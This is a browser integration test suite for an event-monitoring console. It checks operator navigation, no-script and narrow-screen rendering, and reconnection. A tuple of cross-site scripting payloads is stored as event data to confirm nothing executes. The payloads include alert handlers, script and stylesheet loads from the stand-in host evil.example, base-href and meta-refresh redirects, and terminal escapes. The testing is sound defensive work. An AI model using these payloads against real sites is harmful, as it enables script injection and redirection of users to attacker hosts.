"""The console in a real browser, on the API as a process: the way an operator goes, and what strangers try on it."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from msgspec.structs import replace
from playwright.async_api import expect

from ops.devstack.layout import free_port
from schemas.secret_names import API_KEY
from schemas.settings import Settings
from tests.integration.api_process import process
from tests.integration.browsers import CHROMIUM, PATIENCE_MS, WHY_NOT, browsing, sign_in
from tests.integration.conftest import Database
from tests.integration.consoles import store_event

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=WHY_NOT)

TAGS = ("script", "img src=x", "svg", "body", "iframe", "details open", "video src=x", "input autofocus", "a href=x")
EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover")
ENDS = ("", '">', "'>", "</pre>", "</title>")
VECTORS = (
    *(f"{end}<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS for end in ENDS),
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x>",
    "\x1b]8;;//evil.example\x07x",
    "\u202e\u2066<script>alert(1)</script>",
    "x" * 65536,
)  # fmt: skip


@pytest.fixture
def settings(database: Database) -> Settings:
    return replace(database.settings, api_port=free_port())


@pytest.fixture
def origin(settings: Settings) -> Iterator[str]:
    with process(settings) as (port, _):
        yield f"http://127.0.0.1:{port}"


@pytest.fixture
def key(database: Database) -> str:
    key = database.secrets.get(API_KEY)
    assert key is not None
    return key.reveal()


async def count_events(database: Database, first: int, number: int) -> None:
    """Entries of the ledger, as a worker makes them."""
    await database.pool.execute(
        "INSERT INTO partition_progress (topic, partition, next_offset) VALUES ('mutt.ingest.raw', 0, $1)"
        " ON CONFLICT (topic, partition) DO UPDATE SET next_offset = $1",
        first + number,
    )
    await database.pool.execute(
        "INSERT INTO ledger (topic, partition, epoch, first_offset, next_offset, minute, ruleset_version,"
        " ruleset_digest, logged) VALUES ('mutt.ingest.raw', 0, 0, $1, $2, date_trunc('minute', now()), 1, 'x', $3)",
        first,
        first + number,
        number,
    )


async def test_the_way_of_an_operator(database: Database, origin: str, key: str) -> None:
    """By keyboard where one would: from the overview to an event, to a rule for it, and to who made that."""
    await count_events(database, 0, 41)
    await store_event(database, 1)
    async with browsing(origin) as (page, watch):
        await sign_in(page, key)
        await expect(page.locator("#live-state")).to_have_text("live")
        await expect(page.locator("[data-value=received]")).to_have_text("41")
        await count_events(database, 41, 9)
        await expect(page.locator("[data-value=received]")).to_have_text("50", timeout=PATIENCE_MS)
        await page.keyboard.press("g")
        await page.keyboard.press("e")
        await page.wait_for_url("**/ui/events")
        await page.keyboard.press("/")
        await page.keyboard.type("link down")
        await page.keyboard.press("Enter")
        await page.wait_for_url("**/ui/events?q=link+down**")
        await page.locator("tbody a").first.click()
        await expect(page.get_by_role("heading", level=1)).to_contain_text("mutt.ingest.syslog:0:1")
        await page.goto("/ui/rules/new")
        await page.get_by_label("Pattern").fill("link down")
        await page.get_by_role("button", name="Try it").click()
        await expect(page.get_by_text("of the 1 events audited last")).to_be_visible()
        await page.get_by_label("Why it is changed").fill("seen in the browser")
        await page.get_by_role("button", name="Save").click()
        await page.wait_for_url("**/ui/rules/1?saved=1")
        await page.goto("/ui/changes")
        await expect(page.get_by_text("seen in the browser")).to_be_visible()
        await page.keyboard.press("?")
        await expect(page.get_by_role("dialog")).to_be_visible()
        assert watch.unexpected() == []


async def test_what_strangers_write_runs_nowhere(database: Database, origin: str, key: str) -> None:
    for offset, vector in enumerate(VECTORS):
        await store_event(database, offset, message=vector, hostname=vector[:255])
    async with browsing(origin) as (page, watch):
        await sign_in(page, key, "/ui/events")
        seen = 0
        while True:
            seen += await page.locator("tbody tr").count()
            following = page.get_by_role("link", name="Next page")
            if not await following.count():
                break
            await following.click()
        assert seen == len(VECTORS)
        for offset in range(0, len(VECTORS), 90):
            await page.goto(f"/ui/events/mutt.ingest.syslog:0:{offset}")
        for vector in VECTORS[1:4]:
            await page.goto(f"/ui/events?hostname={quote(vector[:255])}")
        assert watch.unexpected() == []
        # Or that would mean nothing: a page that is none of ours does all of it, and is noticed.
        await page.goto("about:blank")
        await page.set_content("<img src=http://127.0.0.1:1/x><script>alert(1)</script>")
        told = " ".join(watch.unexpected())
        assert "dialog: 1" in told
        assert "asked elsewhere: http://127.0.0.1:1/x" in told


async def test_pages_are_whole_without_scripts_and_on_a_narrow_screen(
    database: Database, origin: str, key: str
) -> None:
    await store_event(database, 1, message="link down " + "x" * 500)
    narrow = {"width": 360, "height": 640}
    async with browsing(origin, java_script_enabled=False, viewport=narrow, color_scheme="dark") as (page, watch):
        await sign_in(page, key, "/ui/events")
        await page.get_by_label("text").fill("link")
        await page.get_by_role("button", name="Search").click()
        await expect(page.get_by_text("link down").first).to_be_visible()
        await page.goto("/ui/rules/new")
        await page.get_by_label("Pattern").fill("link down")
        await page.get_by_role("button", name="Save").click()
        await page.wait_for_url("**/ui/rules/1?saved=1")
        assert watch.unexpected() == []
    async with browsing(origin, viewport=narrow) as (page, watch):
        await sign_in(page, key)
        for path in ("/ui", "/ui/events", "/ui/rules/1", "/ui/rules/1/edit", "/ui/config"):
            await page.goto(path)
            wide = await page.evaluate("document.documentElement.scrollWidth")
            assert wide <= narrow["width"], f"{path} is {wide} wide"
        assert watch.unexpected() == []


async def test_the_overview_goes_on_after_the_server_was_away(database: Database, settings: Settings, key: str) -> None:
    origin = f"http://127.0.0.1:{settings.api_port}"
    async with browsing(origin) as (page, watch):
        watch.expected = ("ERR_",)
        with process(settings):
            await sign_in(page, key)
            await expect(page.locator("#live-state")).to_have_text("live")
        await expect(page.locator("#live-state")).to_contain_text("connecting again")
        await count_events(database, 0, 5)
        with process(settings):
            await expect(page.locator("#live-state")).to_have_text("live", timeout=PATIENCE_MS)
            await expect(page.locator("[data-value=received]")).to_have_text("5", timeout=PATIENCE_MS)
        assert watch.unexpected() == []
